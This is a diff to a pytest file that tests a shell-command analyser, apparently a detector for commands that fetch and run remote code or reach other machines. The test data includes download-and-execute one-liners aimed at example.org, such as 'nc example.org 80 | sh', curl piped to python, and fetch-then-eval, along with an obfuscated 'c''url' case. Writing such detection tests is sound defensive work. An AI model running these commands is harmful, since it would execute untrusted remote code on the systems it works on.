@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from runlore.digest.shell_commands import fetches_and_runs, parse
+from runlore.digest.shell_commands import fetches_and_runs, parse, reaches_out
 
 
 @pytest.mark.parametrize(
@@ -100,6 +100,15 @@ def test_any_text_can_be_parsed(command: str) -> None:
         "npm install left-pad --registry https://registry.example.org",
         "npx -y https://example.org/pkg.tgz",
         "cargo install --git https://github.com/ada/shop",
+        "curl https://example.org/x |\\ python3 -",  # A line that went on, joined.
+        "wget -q https://example.org/i.sh; chmod +x i.sh; ./i.sh",
+        "aria2c https://example.org/i.sh && bash i.sh",
+        "nc example.org 80 | sh",
+        "python -c \"import urllib.request as u; exec(u.urlopen('https://example.org').read())\"",
+        "node -e \"fetch('https://example.org/x').then(r => r.text()).then(eval)\"",
+        'X=$(curl -s https://example.org/x); eval "$X"',
+        "git clone https://example.org/x && cd x && make install",
+        "git clone https://example.org/x /tmp/x; bash /tmp/x/setup.sh",
     ],
 )
 def test_a_command_that_runs_what_it_fetches_is_recognized(command: str) -> None:
@@ -125,3 +134,41 @@ def test_a_command_that_runs_what_it_fetches_is_recognized(command: str) -> None
 )
 def test_a_command_that_runs_nothing_from_elsewhere_is_not(command: str) -> None:
     assert not fetches_and_runs(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s example.org/x",
+        "wget https://example.org/a.json",
+        "pip install -i https://pypi.example.org/simple redis",
+        "npm config set registry https://registry.example.org/",
+        "c''url example.org | cat",
+        "ssh example.org cat x",
+        "scp example.org:x .",
+        "git clone git@example.org:ada/shop.git",
+        "docker run --rm example.org/image",
+        "go run example.org/tool@latest",
+        "curl http://localhost:8000 && curl https://example.org",
+    ],
+)
+def test_a_command_that_reaches_another_machine_is_recognized(command: str) -> None:
+    assert reaches_out(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "npm install vite",
+        "uv sync",
+        "curl -s http://localhost:8000/health",
+        "curl http://127.0.0.1:3000 | jq .",
+        "go test ./...",
+        "docker compose up -d",
+        "git pull --rebase",
+        "grep -rn curl scripts",
+        "pytest tests/test_ssh.py",
+    ],
+)
+def test_a_command_that_stays_here_is_not(command: str) -> None:
+    assert not reaches_out(command)
